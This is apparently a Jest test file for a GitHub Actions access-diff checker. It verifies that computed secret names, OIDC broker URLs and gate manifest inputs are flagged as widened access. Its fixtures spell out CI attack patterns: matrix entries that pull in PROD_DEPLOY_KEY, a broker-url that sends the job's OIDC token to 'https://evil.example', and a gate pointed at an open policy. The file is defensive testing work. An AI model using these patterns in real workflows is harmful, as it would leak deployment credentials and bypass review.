/**
 * Session 28: a secret read by a computed name (`${{ secrets[matrix.key] }}`, `secrets[inputs.name]`,
 * `secrets[format('{0}_KEY', matrix.env)]`) is `*` in the model, on both sides of a diff. A pull request
 * that only adds `{key: PROD_DEPLOY_KEY}` to the job's matrix `include:` (or changes the input's
 * default, or the caller's `with:`) makes GitHub hand the job a secret it never read before, and the
 * access diff said "No access changes" (`*` before, `*` after). An environment written as an
 * expression has had this reading since session 19 (`environmentSources`); a computed secret name now
 * has the same: what the name can come from is part of the job's access, and its change is a widened
 * secret row.
 */
import { describe, expect, it } from '@jest/globals';
import { diffSnapshots } from '../../shared/diff/diff.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { withCompositeActions } from '../../shared/workflow/composite.js';
import { failsOnWidened } from '../../shared/diff/states.js';
import { githubFacts } from '../workflow/differential.js';
import { wf } from '../support/repo.js';

const diff = (a: Record<string, string>, b: Record<string, string>) =>
  diffSnapshots(
    snapshot(Object.entries(a).map(([f, t]) => wf(f, t))),
    snapshot(Object.entries(b).map(([f, t]) => wf(f, t))),
  );
const secretRows = (changes: ReturnType<typeof diff>) =>
  changes.filter((c) => c.kind === 'secret').map((c) => [c.workflow, c.job, c.subject, c.effect]);

/** A job whose step reads the secret `read` names, its matrix `include:` as given. */
const matrixJob = (include: string, read = 'secrets[matrix.key]') =>
  `on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        include: ${include}\n    steps:\n      - run: ./deploy "$K"\n        env:\n          K: \${{ ${read} }}\n`;

const dispatchJob = (name: string) =>
  `on:\n  workflow_dispatch:\n    inputs:\n      name:\n        default: ${name}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy "$K"\n        env:\n          K: \${{ secrets[inputs.name] }}\n`;

const CALLEE = `on:\n  workflow_call:\n    inputs:\n      name:\n        type: string\njobs:\n  inner:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy "$K"\n        env:\n          K: \${{ secrets[inputs.name] }}\n`;
const caller = (name: string) =>
  `on: push\njobs:\n  call:\n    uses: ./.github/workflows/lib.yml\n    secrets: inherit\n    with:\n      name: ${name}\n`;

describe('a secret read by a computed name: a change of what the name can be is a widening', () => {
  it('GitHub reads every workflow here (the cases are real workflows)', () => {
    for (const text of [
      matrixJob('[{key: STAGING_KEY}]'),
      matrixJob('[{key: STAGING_KEY}, {key: PROD_DEPLOY_KEY}]'),
      matrixJob('[{env: STAGING}]', "secrets[format('{0}_KEY', matrix.env)]"),
      dispatchJob('STAGING_KEY'),
      CALLEE,
      caller('STAGING_KEY'),
    ])
      expect([text, githubFacts('ci.yml', text).valid]).toEqual([text, true]);
  });

  it.each([
    [
      'a matrix include adds a secret name',
      matrixJob('[{key: STAGING_KEY}]'),
      matrixJob('[{key: STAGING_KEY}, {key: PROD_DEPLOY_KEY}]'),
    ],
    [
      'a matrix value changes under format()',
      matrixJob('[{env: STAGING}]', "secrets[format('{0}_KEY', matrix.env)]"),
      matrixJob('[{env: PROD}]', "secrets[format('{0}_KEY', matrix.env)]"),
    ],
    ['a dispatch input default changes', dispatchJob('STAGING_KEY'), dispatchJob('PROD_DEPLOY_KEY')],
  ])('%s: a widened secret row', (_name, before, after) => {
    const changes = diff({ 'ci.yml': before }, { 'ci.yml': after });
    expect(secretRows(changes)).toEqual([['ci.yml', 'deploy', '*', 'widened']]);
    expect(failsOnWidened(changes)).toBe(true);
  });

  it("a caller's with: names another secret for the callee's computed name: widened at the callee", () => {
    const changes = diff(
      { 'ci.yml': caller('STAGING_KEY'), 'lib.yml': CALLEE },
      { 'ci.yml': caller('PROD_DEPLOY_KEY'), 'lib.yml': CALLEE },
    );
    expect(secretRows(changes)).toEqual([['lib.yml', 'inner via ci.yml/call', '*', 'widened']]);
    expect(failsOnWidened(changes)).toBe(true);
  });

  it('the row says what changed, never a secret value (there is none in a file), and names the line', () => {
    const changes = diff(
      { 'ci.yml': matrixJob('[{key: STAGING_KEY}]') },
      { 'ci.yml': matrixJob('[{key: PROD_DEPLOY_KEY}]') },
    );
    const row = changes.find((c) => c.kind === 'secret')!;
    expect(row.before).toBe('as in the base');
    expect(row.after).toMatch(/what the name can be changed/);
    expect(row.line).toBe(3);
  });

  describe('no over-reporting', () => {
    it('the same sources: no row', () => {
      const text = matrixJob('[{key: STAGING_KEY}]');
      expect(diff({ 'ci.yml': text }, { 'ci.yml': `${text}# a comment\n` })).toEqual([]);
    });

    it('a matrix change in a job that reads secrets by literal names only: no secret row', () => {
      const changes = diff(
        { 'ci.yml': matrixJob('[{key: A}]', 'secrets.STAGING_KEY') },
        { 'ci.yml': matrixJob('[{key: A}, {key: B}]', 'secrets.STAGING_KEY') },
      );
      expect(secretRows(changes)).toEqual([]);
    });

    it('a computed name appearing is the `*` row itself (one row, not two)', () => {
      const changes = diff(
        { 'ci.yml': matrixJob('[{key: A}]', 'secrets.STAGING_KEY') },
        { 'ci.yml': matrixJob('[{key: A}]') },
      );
      expect(secretRows(changes)).toEqual([
        ['ci.yml', 'deploy', '*', 'widened'],
        ['ci.yml', 'deploy', 'STAGING_KEY', 'narrowed'],
      ]);
    });
  });
});

/**
 * The same hole in where stepwarden's steps send the job's OIDC token (session 13's sink rows): a
 * `broker-url` or `oidc-audience` written as an expression was compared as its text, so a matrix
 * `include:`, an input's default, a caller's `with:` or an `env:` value that now names the author's
 * host handed it a token the real broker accepts, and the diff said "No access changes".
 */
describe('a computed broker-url or oidc-audience: a change of what it reads is a widened sink row', () => {
  const SW = 'stepwarden/stepwarden/actions/run@0123456789abcdef0123456789abcdef01234567';
  /** A job whose credential step sends its token where `url` says; `top`/`job`/`step` add keys. */
  const sender = (url: string, o: { top?: string; job?: string; step?: string; aud?: string } = {}) =>
    `on:\n  workflow_dispatch:\n    inputs:\n      url:\n        default: https://broker.corp.example\n${o.top ?? ''}jobs:\n  deploy:\n    runs-on: ubuntu-latest\n${o.job ?? ''}    steps:\n      - id: ship\n        uses: ${SW}\n${o.step ?? ''}        with:\n          audience: https://deploy.example\n          run: make deploy\n          broker-url: ${url}\n          oidc-audience: ${o.aud ?? 'https://broker.corp.example'}\n`;
  const sinkRows = (changes: ReturnType<typeof diff>) =>
    changes.filter((c) => c.subject.startsWith('OIDC token')).map((c) => c.effect);
  const EVIL = 'https://evil.example';
  const GOOD = 'https://broker.corp.example';

  it('GitHub reads every workflow here', () => {
    for (const text of [
      sender('${{ matrix.b }}', { job: `    strategy:\n      matrix:\n        include: [{b: ${GOOD}}]\n` }),
      sender('${{ inputs.url }}'),
      sender('${{ env.B }}', { top: `env:\n  B: ${GOOD}\n` }),
      sender('${{ env.B }}', { job: `    env:\n      B: ${GOOD}\n` }),
      sender('${{ env.B }}', { step: `        env:\n          B: ${GOOD}\n` }),
    ])
      expect([text, githubFacts('ci.yml', text).valid]).toEqual([text, true]);
  });

  it.each([
    [
      'a matrix include',
      sender('${{ matrix.b }}', { job: `    strategy:\n      matrix:\n        include: [{b: ${GOOD}}]\n` }),
      sender('${{ matrix.b }}', { job: `    strategy:\n      matrix:\n        include: [{b: ${EVIL}}]\n` }),
    ],
    [
      'a dispatch input default',
      sender('${{ inputs.url }}'),
      sender('${{ inputs.url }}').replace(`default: ${GOOD}`, `default: ${EVIL}`),
    ],
    [
      'the workflow env',
      sender('${{ env.B }}', { top: `env:\n  B: ${GOOD}\n` }),
      sender('${{ env.B }}', { top: `env:\n  B: ${EVIL}\n` }),
    ],
    [
      'the job env',
      sender('${{ env.B }}', { job: `    env:\n      B: ${GOOD}\n` }),
      sender('${{ env.B }}', { job: `    env:\n      B: ${EVIL}\n` }),
    ],
    [
      "the step's env",
      sender('${{ env.B }}', { step: `        env:\n          B: ${GOOD}\n` }),
      sender('${{ env.B }}', { step: `        env:\n          B: ${EVIL}\n` }),
    ],
    [
      'an audience read from the matrix',
      sender(GOOD, { aud: '${{ matrix.a }}', job: `    strategy:\n      matrix:\n        a: [${GOOD}]\n` }),
      sender(GOOD, {
        aud: '${{ matrix.a }}',
        job: `    strategy:\n      matrix:\n        a: [sts.amazonaws.com]\n`,
      }),
    ],
  ])('%s', (_name, before, after) => {
    const changes = diff({ 'ci.yml': before }, { 'ci.yml': after });
    expect(sinkRows(changes)).toContain('widened');
    expect(failsOnWidened(changes)).toBe(true);
  });

  it("a callee's broker-url read from its input: the caller's with: changing it is widened", () => {
    const callee = sender('${{ inputs.url }}').replace(
      /^on:\n(.*\n)*?jobs:/,
      'on:\n  workflow_call:\n    inputs:\n      url:\n        type: string\njobs:',
    );
    const call = (url: string) =>
      `on: push\njobs:\n  call:\n    uses: ./.github/workflows/lib.yml\n    with:\n      url: ${url}\n`;
    expect(githubFacts('lib.yml', callee).valid).toBe(true);
    const changes = diff(
      { 'ci.yml': call(GOOD), 'lib.yml': callee },
      { 'ci.yml': call(EVIL), 'lib.yml': callee },
    );
    expect(sinkRows(changes)).toContain('widened');
  });

  it("a local composite's sender reading its input from the workflow step's matrix expression", async () => {
    const action = `runs:\n  using: composite\n  steps:\n    - id: ship\n      uses: ${SW}\n      with:\n        broker-url: \${{ inputs.url }}\n        audience: https://deploy.example\n        run: make\n`;
    const read = async (dir: string) =>
      dir === '.github/actions/ship' ? { path: `${dir}/action.yml`, text: action } : undefined;
    const caller = (url: string) =>
      `on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        include: [{b: ${url}}]\n    steps:\n      - uses: ./.github/actions/ship\n        with:\n          url: \${{ matrix.b }}\n`;
    const a = await withCompositeActions([wf('ci.yml', caller(GOOD))], read);
    const b = await withCompositeActions([wf('ci.yml', caller(EVIL))], read);
    expect(sinkRows(diffSnapshots(snapshot(a), snapshot(b)))).toContain('widened');
  });

  it('the row names what the destination reads in a few words, not the sources themselves', () => {
    const before = sender('${{ env.B }}', { job: `    env:\n      B: ${GOOD}\n` });
    const after = sender('${{ env.B }}', { job: `    env:\n      B: ${EVIL}\n` });
    const row = diff({ 'ci.yml': before }, { 'ci.yml': after }).find(
      (c) => c.subject.startsWith('OIDC token') && c.effect === 'widened',
    )!;
    expect(row.after).toMatch(
      /^actions\/run to \$\{\{ env\.B \}\}, audience \S+, reading the job's strategy, on:, env: and callers' with: \(as of [0-9a-f]{12}\)$/,
    );
    expect(row.after).not.toContain(EVIL);
  });

  it('a literal broker-url: a matrix or env change elsewhere is no sink row', () => {
    const changes = diff(
      {
        'ci.yml': sender(GOOD, {
          job: `    env:\n      B: x\n    strategy:\n      matrix:\n        n: [1]\n`,
        }),
      },
      {
        'ci.yml': sender(GOOD, {
          job: `    env:\n      B: y\n    strategy:\n      matrix:\n        n: [1, 2]\n`,
        }),
      },
    );
    expect(sinkRows(changes)).toEqual([]);
  });

  it('an expression whose sources did not change: no row', () => {
    const text = sender('${{ env.B }}', { job: `    env:\n      B: ${GOOD}\n` });
    expect(sinkRows(diff({ 'ci.yml': text }, { 'ci.yml': `${text}# a comment\n` }))).toEqual([]);
  });
});

/**
 * And where an armed gate reads the manifest (session 10's `manifest-ref`, `manifest`, `org-policy` in
 * the gate's row): `manifest-ref: ${{ matrix.ref }}` read the same on both sides while the matrix
 * moved it to a branch the pull request's author pushed.
 */
describe('a gate input written as an expression: a change of what it reads is a widened gate row', () => {
  const GATE = 'stepwarden/stepwarden/actions/enforce@0123456789abcdef0123456789abcdef01234567';
  const gated = (input: string, o: { job?: string; step?: string } = {}) =>
    `on:\n  workflow_dispatch:\n    inputs:\n      r:\n        default: main\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n${o.job ?? ''}    steps:\n      - uses: ${GATE}\n${o.step ?? ''}        with:\n          ${input}\n      - run: make release\n`;
  const gateRows = (changes: ReturnType<typeof diff>) =>
    changes.filter((c) => c.subject === 'actions/enforce gate').map((c) => c.effect);

  it.each([
    [
      'manifest-ref from the matrix',
      gated('manifest-ref: ${{ matrix.r }}', { job: `    strategy:\n      matrix:\n        r: [main]\n` }),
      gated('manifest-ref: ${{ matrix.r }}', { job: `    strategy:\n      matrix:\n        r: [open]\n` }),
    ],
    [
      'manifest-ref from a dispatch input',
      gated('manifest-ref: ${{ inputs.r }}'),
      gated('manifest-ref: ${{ inputs.r }}').replace('default: main', 'default: open'),
    ],
    [
      "manifest from the step's env",
      gated('manifest: ${{ env.M }}', { step: `        env:\n          M: .github/access-manifest.yml\n` }),
      gated('manifest: ${{ env.M }}', { step: `        env:\n          M: examples/open.yml\n` }),
    ],
  ])('%s', (_name, before, after) => {
    expect(githubFacts('release.yml', before).valid).toBe(true);
    const changes = diff({ 'release.yml': before }, { 'release.yml': after });
    expect(gateRows(changes)).toEqual(['widened']);
    expect(failsOnWidened(changes)).toBe(true);
  });

  it('a literal manifest-ref: a matrix change elsewhere leaves the gate row out', () => {
    const changes = diff(
      {
        'release.yml': gated('manifest-ref: main', { job: `    strategy:\n      matrix:\n        n: [1]\n` }),
      },
      {
        'release.yml': gated('manifest-ref: main', {
          job: `    strategy:\n      matrix:\n        n: [1, 2]\n`,
        }),
      },
    );
    expect(gateRows(changes)).toEqual([]);
  });
});
